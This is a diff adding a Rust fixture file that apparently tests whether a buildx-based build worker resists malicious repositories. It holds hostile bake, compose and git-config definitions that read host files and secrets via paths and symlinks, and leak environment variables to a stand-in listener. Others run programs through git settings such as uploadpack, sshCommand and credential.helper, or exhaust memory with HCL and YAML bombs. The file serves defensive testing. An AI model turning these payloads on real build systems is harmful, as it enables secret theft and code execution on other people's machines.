@@ -1,0 +1,660 @@
+//! Definitions and repositories of an enemy.
+//!
+//! `@WORD@` is filled in from the trap of each run: `@OUTSIDE@` is a directory outside of the worktree, `@BELL@` a port of
+//! the machine, `@VARIABLE@` the name of a variable of the worker's.
+
+use std::process::{Command, Stdio};
+
+use serde_json::{Value, json};
+
+use super::trap::Harm;
+
+pub struct Fixture {
+    pub name: &'static str,
+    /// What it is after.
+    pub aim: &'static str,
+    /// What a careless worker suffers; or why it does not, with this version of buildx and BuildKit.
+    pub harm: Result<Harm, &'static str>,
+    /// The definition in the repository.
+    pub file: &'static str,
+    pub tree: Vec<Entry>,
+    pub account: &'static str,
+    /// What somebody else has built before.
+    pub neighbour: Option<Value>,
+    /// Whether outputs are what it is about; elsewhere nothing is written, to save time.
+    pub has_outputs: bool,
+    /// Whether the harm is done when it has been printed.
+    pub is_printed_only: bool,
+    /// Whether it is after the worker's machine, while it is built: then one wall is not enough.
+    pub is_dangerous: bool,
+}
+
+pub struct Entry {
+    pub path: String,
+    pub kind: Kind,
+    pub content: Vec<u8>,
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    File,
+    Program,
+    Link,
+}
+
+const DOCKERFILE: &str = "COPY . /srv\n";
+/// Shows what it finds where the definition has put somebody's directory.
+const SHOWING: &str = "FROM @BASE@\nENV NONCE=@NONCE@\nCOPY secret /srv/secret\nRUN cat /srv/secret\n";
+const SHOWING_SECRET: &str = "RUN --mount=type=secret,id=x cat /run/secrets/x\n";
+const RUN_CANARY: &str = "touch @OUTSIDE@/ran";
+
+impl Fixture {
+    /// A repository with `docker-bake.json` of one target, whose context is `app` unless it says otherwise.
+    fn json(name: &'static str, aim: &'static str, harm: Harm, target: Value) -> Self {
+        let mut fields = json!({"context": "./app"});
+        fields.as_object_mut().unwrap().extend(target.as_object().unwrap().clone());
+        let definition = json!({"target": {"default": fields}}).to_string();
+        Self::new(name, aim, harm, "docker-bake.json", &definition).dockerfile(DOCKERFILE)
+    }
+
+    /// A bake file with this text, which has done its harm when it is printed.
+    fn hcl(name: &'static str, aim: &'static str, harm: Harm, text: &str) -> Self {
+        Self::new(name, aim, harm, "docker-bake.hcl", text).dockerfile(DOCKERFILE).printed_only()
+    }
+
+    /// A compose file of one service, with more of its own and of the file's, and `LOOT` as an argument without a value.
+    fn compose(name: &'static str, aim: &'static str, harm: Harm, of_service: &str, of_file: &str) -> Self {
+        let text = format!("services:\n  web:\n    build: {{context: ./app, args: [LOOT]}}\n{of_service}{of_file}");
+        Self::new(name, aim, harm, "compose.yaml", &text).dockerfile("ARG LOOT\nRUN echo \"$LOOT\"\n").printed_only()
+    }
+
+    /// A context that is itself the inside of a git repository with this configuration. `worktree`, because buildx asks
+    /// first whether it is in a worktree; and it lacks its commit, so that git asks the "remote" for it.
+    fn git(name: &'static str, aim: &'static str, url: &str, more: &str) -> Self {
+        let config = format!(
+            "[core]\n\trepositoryformatversion = 1\n\tworktree = .\n[extensions]\n\tpartialClone = origin\n\
+             [remote \"origin\"]\n\turl = {url}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n{more}"
+        );
+        let program = format!("#!/bin/sh\n{RUN_CANARY}\nexit 1\n");
+        Self::json(name, aim, Harm::Wrote, json!({}))
+            .dockerfile("COPY Dockerfile /srv/Dockerfile\n")
+            .with("app/HEAD", "ref: refs/heads/main\n")
+            .with("app/config", &config)
+            .with("app/objects/keep", "")
+            .with("app/refs/heads/main", "0123456789012345678901234567890123456789\n")
+            .entry("app/program", Kind::Program, &program)
+    }
+
+    fn new(name: &'static str, aim: &'static str, harm: Harm, file: &'static str, definition: &str) -> Self {
+        Self {
+            name,
+            aim,
+            harm: Ok(harm),
+            file,
+            tree: Vec::new(),
+            account: "acme",
+            neighbour: None,
+            has_outputs: false,
+            is_printed_only: false,
+            is_dangerous: false,
+        }
+        .with(file, definition)
+    }
+
+    fn entry(mut self, path: &str, kind: Kind, content: &str) -> Self {
+        self.tree.retain(|entry| entry.path != path);
+        self.tree.push(Entry { path: path.into(), kind, content: content.into() });
+        self
+    }
+
+    fn with(self, path: &str, content: &str) -> Self {
+        self.entry(path, Kind::File, content)
+    }
+
+    fn link(self, path: &str, target: &str) -> Self {
+        self.entry(path, Kind::Link, target)
+    }
+
+    fn without(mut self, path: &str) -> Self {
+        self.tree.retain(|entry| entry.path != path);
+        self
+    }
+
+    /// `app/Dockerfile`, on the base image; no cache knows its steps.
+    fn dockerfile(self, steps: &str) -> Self {
+        self.with("app/Dockerfile", &format!("FROM @BASE@\nENV NONCE=@NONCE@\n{steps}"))
+    }
+
+    fn outputs(self) -> Self {
+        Self { has_outputs: true, ..self }
+    }
+
+    fn printed_only(self) -> Self {
+        Self { is_printed_only: true, ..self }
+    }
+
+    fn account(self, account: &'static str) -> Self {
+        Self { account, ..self }
+    }
+
+    fn after(self, neighbour: Value) -> Self {
+        Self { neighbour: Some(neighbour), ..self }
+    }
+
+    /// The harm does not happen, for this reason.
+    fn harmless(self, why: &'static str) -> Self {
+        Self { harm: Err(why), ..self }
+    }
+}
+
+pub fn all() -> Vec<Fixture> {
+    let of_worker = [files(), compose_files(), links(), outputs(), environment(), git()].into_iter().flatten();
+    let of_worker = of_worker.map(|fixture| Fixture { is_dangerous: !fixture.is_printed_only, ..fixture });
+    of_worker.chain([bombs(), remotes(), of_others(), rest()].into_iter().flatten()).collect()
+}
+
+/// No attack: what a step of anybody's says is heard.
+pub fn ordinary() -> Fixture {
+    Fixture::json("ordinary", "nothing", Harm::Told, json!({})).dockerfile("RUN echo MARK\"\"-@NONCE@\n")
+}
+
+/// Files of the host, by every field that can name one.
+fn files() -> Vec<Fixture> {
+    use Harm::{Read, Told};
+    let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
+    let host = "COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n";
+    vec![
+        Fixture::json("context_absolute", "a directory of the host as context", Told, inline("@OUTSIDE@")),
+        Fixture::json("context_above", "the same by `..`", Told, inline("@UP@@OUTSIDE@")),
+        Fixture::json("context_cwd", "the same by `cwd://`", Told, inline("cwd://@UP@@OUTSIDE@")),
+        Fixture::json(
+            "named_context_absolute",
+            "a directory of the host as named context",
+            Told,
+            json!({"contexts": {"host": "@OUTSIDE@"}}),
+        )
+        .dockerfile(host),
+        Fixture::json(
+            "named_context_layout",
+            "an OCI layout of the host as named context",
+            Read,
+            json!({"contexts": {"host": "oci-layout://@OUTSIDE@/layout:latest"}}),
+        )
+        .dockerfile(host),
+        Fixture::json(
+            "dockerfile_absolute",
+            "a file of the host as Dockerfile",
+            Told,
+            json!({"dockerfile": "@OUTSIDE@/Dockerfile"}),
+        ),
+        Fixture::json("dockerfile_above", "the same by `..`", Told, json!({"dockerfile": "@UP@@OUTSIDE@/Dockerfile"})),
+        Fixture::json(
+            "secret_src",
+            "a file of the host as secret",
+            Told,
+            json!({"secret": ["id=x,src=@OUTSIDE@/secret"]}),
+        )
+        .dockerfile(SHOWING_SECRET),
+        Fixture::json(
+            "secret_id_path",
+            "the same by nothing but its id",
+            Told,
+            json!({"secret": ["id=@OUTSIDE@/secret"]}),
+        )
+        .dockerfile("RUN --mount=type=secret,id=@OUTSIDE@/secret,target=/loot cat /loot\n"),
+        Fixture::json(
+            "ssh_key",
+            "a file of the host as key",
+            Read,
+            json!({"ssh": [{"id": "default", "paths": ["@OUTSIDE@/key"]}]}),
+        )
+        .printed_only(),
+        Fixture::json(
+            "cache_from_local",
+            "a directory of the host as cache",
+            Read,
+            json!({"cache-from": ["type=local,src=@OUTSIDE@/layout"]}),
+        ),
+    ]
+}
+
+/// What compose reads while it is printed.
+fn compose_files() -> Vec<Fixture> {
+    use Harm::{Read, Told};
+    let of_secret =
+        "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {file: @OUTSIDE@/secret}\n";
+    vec![
+        Fixture::compose(
+            "compose_env_file",
+            "variables from a file of the host",
+            Told,
+            "    env_file: @OUTSIDE@/variables\n",
+            "",
+        ),
+        Fixture::compose(
+            "compose_env_file_above",
+            "the same by `..`",
+            Told,
+            "    env_file: [{path: @UP@@OUTSIDE@/variables}]\n",
+            "",
+        ),
+        Fixture::compose(
+            "compose_include",
+            "another compose file of the host",
+            Told,
+            "",
+            "include: [@OUTSIDE@/compose.yml]\n",
+        ),
+        Fixture::compose(
+            "compose_include_env_file",
+            "variables from a file of the host for an included file",
+            Told,
+            "",
+            "include: [{path: ./more.yml, env_file: @OUTSIDE@/variables}]\n",
+        )
+        .with("more.yml", "services:\n  more:\n    build: {context: ./app, args: {LOOT: \"${LOOT}\"}}\n"),
+        Fixture::new(
+            "compose_extends",
+            "a service of another compose file of the host",
+            Told,
+            "compose.yaml",
+            "services:\n  web:\n    extends: {file: @OUTSIDE@/compose.yml, service: stolen}\n    build: {context: ./app}\n",
+        )
+        .dockerfile(DOCKERFILE)
+        .printed_only(),
+        Fixture::compose(
+            "compose_label_file",
+            "labels from a file of the host",
+            Read,
+            "    label_file: @OUTSIDE@/variables\n",
+            "",
+        )
+        .harmless("a service's labels are no image's, and the file is not read"),
+        Fixture::new("compose_secret_file", "a file of the host as secret", Told, "compose.yaml", of_secret)
+            .dockerfile(SHOWING_SECRET),
+        Fixture::new(
+            "compose_additional_context",
+            "a directory of the host as named context",
+            Told,
+            "compose.yaml",
+            "services:\n  web:\n    build: {context: ./app, additional_contexts: {host: @OUTSIDE@}}\n",
+        )
+        .dockerfile("COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n"),
+        Fixture::compose(
+            "compose_remote_include",
+            "an include from somewhere else",
+            Harm::Rang,
+            "",
+            "include: [\"http://@BELL@/x.git\"]\n",
+        )
+        .harmless("this buildx has no loader for them, and looks for a file of that name"),
+    ]
+}
+
+/// Symbolic links at every level.
+fn links() -> Vec<Fixture> {
+    use Harm::Told;
+    let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
+    let compose = "services:\n  web:\n    build: {context: ./app, args: [LOOT]}\n";
+    vec![
+        Fixture::json("context_link", "a context that is a link", Told, inline("out")).link("out", "@OUTSIDE@"),
+        Fixture::json("context_below_link", "a context behind a link", Told, inline("out/sub"))
+            .link("out", "@OUTSIDE@"),
+        Fixture::json(
+            "named_context_link",
+            "a named context that is a link",
+            Told,
+            json!({"contexts": {"host": "out"}}),
+        )
+        .link("out", "@OUTSIDE@")
+        .dockerfile("COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n"),
+        Fixture::json(
+            "dockerfile_behind_link",
+            "a Dockerfile behind a link",
+            Told,
+            json!({"dockerfile": "../out/Dockerfile"}),
+        )
+        .link("out", "@OUTSIDE@"),
+        Fixture::json("dockerfile_link", "a Dockerfile that is a link", Told, json!({"dockerfile": "Linked"}))
+            .link("app/Linked", "@OUTSIDE@/Dockerfile")
+            .harmless("buildx sends the link, which leads nowhere in the builder"),
+        Fixture::json("file_link", "a link in a context", Told, json!({}))
+            .link("app/secret", "@OUTSIDE@/secret")
+            .dockerfile("COPY . /srv\nRUN cat /srv/secret || true\nCOPY secret /srv/again\nRUN cat /srv/again\n")
+            .harmless("buildx sends the link, which leads nowhere in the builder"),
+        Fixture::json("dockerignore_link", "a .dockerignore that is a link", Told, json!({}))
+            .link("app/.dockerignore", "@OUTSIDE@/variables")
+            .harmless("buildx sends the link, which leads nowhere in the builder"),
+        Fixture::json("secret_link", "a secret that is a link", Told, json!({"secret": ["id=x,src=out"]}))
+            .link("out", "@OUTSIDE@/secret")
+            .dockerfile(SHOWING_SECRET),
+        Fixture::compose(
+            "compose_env_file_link",
+            "a file of variables that is a link",
+            Told,
+            "    env_file: ./variables\n",
+            "",
+        )
+        .link("variables", "@OUTSIDE@/variables"),
+        Fixture::compose("compose_dot_env_link", "a .env that is a link", Told, "", "")
+            .link(".env", "@OUTSIDE@/variables"),
+        Fixture::compose(
+            "compose_include_link",
+            "an included file that is a link",
+            Told,
+            "",
+            "include: [./more.yml]\n",
+        )
+        .link("more.yml", "@OUTSIDE@/compose.yml"),
+        Fixture::new("definition_link", "a compose file that is a link", Told, "compose.yaml", compose)
+            .dockerfile("ARG LOOT\n")
+            .without("compose.yaml")
+            .link("compose.yaml", "@OUTSIDE@/compose.yml")
+            .printed_only(),
+        Fixture::new("definition_behind_link", "a compose file behind a link", Told, "out/compose.yml", compose)
+            .without("out/compose.yml")
+            .link("out", "@OUTSIDE@")
+            .printed_only(),
+        Fixture::new(
+            "definition_link_shown",
+            "a link to what is no definition: its lines are shown",
+            Told,
+            "docker-bake.hcl",
+            "",
+        )
+        .without("docker-bake.hcl")
+        .link("docker-bake.hcl", "@OUTSIDE@/broken.hcl")
+        .printed_only(),
+    ]
+}
+
+/// Outputs and caches on the worker's disk.
+fn outputs() -> Vec<Fixture> {
+    use Harm::Wrote;
+    let output = |name, aim, output: &str| Fixture::json(name, aim, Wrote, json!({"output": [output]})).outputs();
+    let cache = |name, aim, cache: &str| Fixture::json(name, aim, Wrote, json!({"cache-to": [cache]}));
+    vec![
+        output("output_local", "a directory written on the host", "type=local,dest=@OUTSIDE@/loot"),
+        output("output_tar", "an archive opened for writing on the host", "type=tar,dest=@OUTSIDE@/loot.tar")
+            .printed_only(),
+        output("output_oci", "an image opened for writing on the host", "type=oci,dest=@OUTSIDE@/loot.oci")
+            .printed_only(),
+        output("output_docker", "the same in docker's form", "type=docker,dest=@OUTSIDE@/loot.docker").printed_only(),
+        output("output_over_file", "a file of the host overwritten", "type=tar,dest=@OUTSIDE@/secret").printed_only(),
+        output("output_local_behind_link", "a directory written behind a link", "type=local,dest=out/loot")
+            .link("out", "@OUTSIDE@"),
+        output("output_tar_behind_link", "an archive opened for writing behind a link", "type=tar,dest=out/loot.tar")
+            .printed_only()
+            .link("out", "@OUTSIDE@"),
+        cache("cache_to_local", "a cache written on the host", "type=local,dest=@OUTSIDE@/loot"),
+        cache("cache_to_local_behind_link", "a cache written behind a link", "type=local,dest=out/loot")
+            .link("out", "@OUTSIDE@"),
+    ]
+}
+
+/// Variables of the worker, by every field that can name one.
+fn environment() -> Vec<Fixture> {
+    use Harm::Told;
+    let variable = "variable \"@VARIABLE@\" {}\n";
+    let target = |fields: &str| format!("{variable}target \"default\" {{\n  context = \"./app\"\n  {fields}\n}}\n");
+    let of_secret =
+        "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {environment: @VARIABLE@}\n";
+    vec![
+        Fixture::hcl("variable_in_argument", "a variable of the worker's in an argument", Told, &target("args = { LOOT = @VARIABLE@ }")),
+        Fixture::hcl("variable_in_tag", "the same in a tag", Told, &target("tags = [\"evil:${@VARIABLE@}\"]")),
+        Fixture::hcl("variable_in_key", "the same in the name of a label", Told, &target("labels = { \"${@VARIABLE@}\" = \"x\" }")),
+        Fixture::hcl("variable_in_context", "the same in the URL of a context", Told, &target("contexts = { x = \"http://@BELL@/${@VARIABLE@}\" }")),
+        Fixture::new(
+            "variable_in_json",
+            "the same in JSON",
+            Told,
+            "docker-bake.json",
+            r#"{"variable": {"@VARIABLE@": {}}, "target": {"default": {"context": "./app", "args": {"LOOT": "${@VARIABLE@}"}}}}"#,
+        )
+        .dockerfile(DOCKERFILE)
+        .printed_only(),
+        Fixture::compose("compose_interpolation", "the same by `${…}` in a compose file", Told, "    image: \"evil:${@VARIABLE@}\"\n", ""),
+        Fixture::new(
+            "compose_argument",
+            "the same by an argument without a value",
+            Told,
+            "compose.yaml",
+            "services:\n  web:\n    build: {context: ./app, args: [@VARIABLE@]}\n",
+        )
+        .dockerfile(DOCKERFILE)
+        .printed_only(),
+        Fixture::new(
+            "compose_environment",
+            "the same by a service's variable without a value",
+            Told,
+            "compose.yaml",
+            "services:\n  web:\n    environment: [@VARIABLE@]\n    build: {context: ./app, args: [@VARIABLE@]}\n",
+        )
+        .dockerfile(DOCKERFILE)
+        .printed_only(),
+        Fixture::json("secret_env", "a variable of the worker's as secret", Told, json!({"secret": ["id=x,env=@VARIABLE@"]}))
+            .dockerfile(SHOWING_SECRET),
+        Fixture::json("secret_id_variable", "the same by nothing but its id", Told, json!({"secret": ["id=@VARIABLE@"]}))
+            .dockerfile("RUN --mount=type=secret,id=@VARIABLE@,target=/loot cat /loot\n"),
+        Fixture::new("compose_secret_environment", "the same in a compose file", Told, "compose.yaml", of_secret)
+            .dockerfile(SHOWING_SECRET),
+        Fixture::json("ssh_agent", "the worker's ssh agent", Told, json!({"ssh": ["default"]}))
+            .dockerfile("RUN --mount=type=ssh test -n \"$SSH_AUTH_SOCK\" && echo MARK\"\"-@NONCE@\n"),
+        Fixture::hcl("homedir", "where the worker's home is", Told, "target \"default\" {\n  context = \"./app\"\n  args = { LOOT = homedir() }\n}\n"),
+        Fixture::json("homedir_in_key", "the same in the name of a label", Told, json!({"labels": {"${homedir()}": "x"}}))
+            .printed_only(),
+    ]
+}
+
+/// Definitions that take all the time and memory there is.
+fn bombs() -> Vec<Fixture> {
+    let doublings: String =
+        (1..30).map(|i| format!("variable \"v{i}\" {{ default = \"${{v{0}}}${{v{0}}}\" }}\n", i - 1)).collect();
+    let strings = format!(
+        "variable \"v0\" {{ default = \"{}\" }}\n{doublings}target \"default\" {{\n  args = {{ LOOT = v29 }}\n}}\n",
+        "x".repeat(32)
+    );
+    let matrix = "target \"default\" {\n  name = \"t-${a}-${b}\"\n  matrix = { a = [for i in range(300): \"a${i}\"], b = [for i in range(300): \"b${i}\"] }\n}\n";
+    let loops = "target \"default\" {\n  args = { LOOT = length([for a in range(1000): [for b in range(1000): [for c in range(1000): c]]]) }\n}\n";
+    let aliases: String = ('b'..='i')
+        .map(|c| {
+            let before = char::from(c as u8 - 1);
+            format!("x-{c}: &{c} [{}]\n", vec![format!("*{before}"); 10].join(", "))
+        })
+        .collect();
+    let aliases = format!("x-a: &a [lol, lol]\n{aliases}services:\n  web:\n    build: {{context: ./app}}\n");
+    vec![
+        Fixture::hcl("bomb_matrix", "time, by a matrix of 90,000 targets", Harm::Exhausted, matrix),
+        Fixture::hcl("bomb_strings", "memory, by strings that double", Harm::Exhausted, &strings),
+        Fixture::hcl("bomb_loops", "time, by loops in loops", Harm::Exhausted, loops),
+        Fixture::new("bomb_aliases", "memory, by YAML aliases of aliases", Harm::Exhausted, "compose.yaml", &aliases)
+            .dockerfile(DOCKERFILE)
+            .printed_only(),
+    ]
+}
+
+/// What is fetched from elsewhere, for the repository.
+fn remotes() -> Vec<Fixture> {
+    use Harm::Rang;
+    let context = |name, aim, context: &str| Fixture::json(name, aim, Rang, json!({"context": context}));
+    vec![
+        context("context_http", "an address inside as context", "http://@BELL@/context.tar"),
+        context("context_git", "the same by git", "git://@BELL@/x.git"),
+        context("context_https_fragment", "the same as a folder of a git repository", "https://@BELL@/x.git#main:app"),
+        Fixture::json(
+            "named_context_http",
+            "the same as named context",
+            Rang,
+            json!({"contexts": {"x": "http://@BELL@/x.tar"}}),
+        )
+        .dockerfile("COPY --from=x / /srv\n"),
+        Fixture::json(
+            "dockerfile_http",
+            "the same as Dockerfile",
+            Rang,
+            json!({"dockerfile": "http://@BELL@/Dockerfile"}),
+        )
+        .harmless("beside a local context it is a path like any other"),
+        Fixture::json("realm", "a registry that sends buildx for a token to an address inside", Rang, json!({}))
+            .with("app/Dockerfile", "FROM @EVIL_REGISTRY@/evil/x:1\n"),
+    ]
+}
+
+/// Contexts that are git repositories, with each configuration that runs a program.
+fn git() -> Vec<Fixture> {
+    let none = "buildx asks git for nothing that runs it";
+    let hook = format!("#!/bin/sh\n{RUN_CANARY}\n");
+    vec![
+        Fixture::git("git_uploadpack", "a program, by the remote of a partial clone", ".", &format!("\tuploadpack = \"{RUN_CANARY}; false\"\n")),
+        Fixture::git("git_ssh_command", "a program, by core.sshCommand", "ssh://localhost/x", &format!("[core]\n\tsshCommand = \"{RUN_CANARY}; false\"\n")),
+        Fixture::git("git_ext", "a program, by a URL of ext::", "ext::touch @OUTSIDE@/ran", "[protocol \"ext\"]\n\tallow = always\n"),
+        Fixture::git("git_proxy", "a program, by core.gitProxy", "git://localhost/x", "[core]\n\tgitProxy = ./program\n"),
+        Fixture::git("git_credential_helper", "a program, by credential.helper", "http://@BELL@/x.git", &format!("[credential]\n\thelper = \"!{RUN_CANARY}; false\"\n")),
+        Fixture::git("git_askpass", "a program, by core.askPass", "http://@BELL@/x.git", "[core]\n\taskPass = ./program\n"),
+        Fixture::git("git_remote_http", "an address inside, by the remote of a partial clone", "http://@BELL@/x.git", "")
+            .harm(Harm::Rang),
+        Fixture::git("git_fsmonitor", "a program, by core.fsmonitor", ".", &format!("[core]\n\tfsmonitor = \"{RUN_CANARY}; false\"\n"))
+            .harmless(none),
+        Fixture::git("git_hooks_path", "a program, by core.hooksPath", ".", "[core]\n\thooksPath = hooks\n")
+            .entry("app/hooks/post-checkout", Kind::Program, &hook)
+            .entry("app/hooks/reference-transaction", Kind::Program, &hook)
+            .entry("app/hooks/post-index-change", Kind::Program, &hook)
+            .harmless(none),
+        Fixture::git("git_filter", "a program, by a filter or textconv", ".", &format!("[filter \"x\"]\n\tclean = \"{RUN_CANARY}\"\n\tsmudge = \"{RUN_CANARY}\"\n[diff \"x\"]\n\ttextconv = \"{RUN_CANARY}\"\n\tcommand = \"{RUN_CANARY}\"\n"))
+            .with("app/.gitattributes", "* filter=x diff=x\n")
+            .harmless(none),
+        Fixture::git("git_pager", "a program, by core.pager and core.editor", ".", &format!("[core]\n\tpager = \"{RUN_CANARY}\"\n\teditor = \"{RUN_CANARY}\"\n[pager]\n\tshow = \"{RUN_CANARY}\"\n"))
+            .harmless("there is no terminal"),
+        signed_commit(Fixture::git("git_gpg_program", "a program, by gpg.program and a signed commit", ".", "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = ./program\n"))
+        .harmless("buildx switches log.showSignature off"),
+    ]
+}
+
+/// Gives a context that is a git repository a commit that claims a signature.
+fn signed_commit(mut fixture: Fixture) -> Fixture {
+    let folder = tempfile::tempdir().unwrap();
+    let git = |arguments: &[&str], input: &str| {
+        let mut git = Command::new("git");
+        git.current_dir(folder.path()).args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped());
+        let mut git = git.spawn().unwrap();
+        std::io::Write::write_all(&mut git.stdin.take().unwrap(), input.as_bytes()).unwrap();
+        String::from_utf8(git.wait_with_output().unwrap().stdout).unwrap().trim().to_owned()
+    };
+    git(&["init", "--quiet", "--bare", "."], "");
+    let tree = git(&["hash-object", "-w", "-t", "tree", "--stdin"], "");
+    let who = "Ada Example <ada@example.test> 1700000000 +0000";
+    let commit = format!(
+        "tree {tree}\nauthor {who}\ncommitter {who}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n eA==\n -----END PGP SIGNATURE-----\n\nx\n"
+    );
+    let sha = git(&["hash-object", "-w", "-t", "commit", "--stdin"], &commit);
+    for object in [&tree, &sha] {
+        let path = format!("objects/{}/{}", &object[..2], &object[2..]);
+        let content = std::fs::read(folder.path().join(&path)).unwrap();
+        fixture.tree.push(Entry { path: format!("app/{path}"), kind: Kind::File, content });
+    }
+    fixture.with("app/refs/heads/main", &format!("{sha}\n"))
+}
+
+/// What belongs to others: names of images and caches, cached directories, secrets.
+fn of_others() -> Vec<Fixture> {
+    use Harm::{Pushed, Told};
+    let cached = "RUN --mount=type=cache,id=@NONCE@,target=/c cat /c/loot || true\n";
+    let neighbour = |args: Value| {
+        let steps = "FROM @BASE@\nRUN --mount=type=cache,id=@NONCE@,target=/c echo MARK-@NONCE@ > /c/loot\n";
+        json!({"dockerfile-inline": steps, "args": args, "output": ["type=cacheonly"]})
+    };
+    let namespace = json!({"BUILDKIT_CACHE_MOUNT_NS": "victim-@NONCE@"});
+    vec![
+        Fixture::json(
+            "tag",
+            "an image pushed over somebody else's",
+            Pushed,
+            json!({"tags": ["@FOREIGN@"], "output": ["type=registry"]}),
+        )
+        .outputs(),
+        Fixture::json(
+            "output_name",
+            "the same by the name of an output",
+            Pushed,
+            json!({"output": ["type=image,name=@FOREIGN@,push=true"]}),
+        )
+        .outputs(),
+        Fixture::json(
+            "cache_to_registry",
+            "a cache over somebody else's",
+            Pushed,
+            json!({"cache-to": ["type=registry,ref=@FOREIGN@"]}),
+        ),
+        Fixture::json("cache_mount", "somebody else's cached directory", Told, json!({}))
+            .dockerfile(cached)
+            .after(neighbour(json!({}))),
+        Fixture::json("cache_mount_namespace", "the same, in its namespace", Told, json!({"args": namespace}))
+            .dockerfile(cached)
+            .after(neighbour(namespace.clone())),
+        Fixture::json(
+            "git_auth_token",
+            "a token for whoever asks",
+            Told,
+            json!({"secret": ["id=GIT_AUTH_TOKEN,env=@VARIABLE@"]}),
+        )
+        .dockerfile("ADD http://@BELL@/x.git /srv\n"),
+    ]
+}
+
+/// What asks the builder for more than a build.
+fn rest() -> Vec<Fixture> {
+    use Harm::{Rang, Told};
+    let knock = "echo | nc -w 2 127.0.0.1 @BELL_PORT@ || true\n";
+    vec![
+        Fixture::json("network_host", "the builder's own network", Rang, json!({"network": "host"}))
+            .dockerfile(&format!("RUN {knock}")),
+        Fixture::json("entitlement_network", "the same for one step", Rang, json!({"entitlements": ["network.host"]}))
+            .dockerfile(&format!("RUN --network=host {knock}")),
+        Fixture::json(
+            "entitlement_insecure",
+            "a step with all rights",
+            Told,
+            json!({"entitlements": ["security.insecure"]}),
+        )
+        .dockerfile("RUN --security=insecure echo MARK\"\"-@NONCE@\n")
+        .harmless("a BuildKit that is not told to does not grant it"),
+        Fixture::json(
+            "attest_generator",
+            "an image of the repository's choice, run beside the build",
+            Rang,
+            json!({"attest": ["type=sbom,generator=@BELL@/evil/generator:1"]}),
+        ),
+        Fixture::json(
+            "frontend_argument",
+            "a frontend of the repository's choice",
+            Rang,
+            json!({"args": {"BUILDKIT_SYNTAX": "@BELL@/evil/frontend:1"}}),
+        )
+        .account("pinned"),
+        Fixture::json("frontend_comment", "the same by `# syntax=`", Rang, json!({}))
+            .with("app/Dockerfile", "# syntax=@BELL@/evil/frontend:1\nFROM @BASE@\n")
+            .account("pinned"),
+        Fixture::json(
+            "frontend_in_key",
+            "the same by a name that is an expression",
+            Rang,
+            json!({"args": {"${upper(\"buildkit_syntax\")}": "@BELL@/evil/frontend:1"}}),
+        )
+        .account("pinned"),
+        Fixture::json("call", "no build but a question", Told, json!({"call": "outline"}))
+            .harmless("the answer is about the Dockerfile, and reaches nothing"),
+        Fixture::json(
+            "policy",
+            "a policy of the repository's own",
+            Told,
+            json!({"policy": [{"filename": "@OUTSIDE@/secret"}]}),
+        )
+        .harmless("buildx before 0.31 does not know the field"),
+    ]
+}
+
+impl Fixture {
+    fn harm(self, harm: Harm) -> Self {
+        Self { harm: Ok(harm), ..self }
+    }
+}
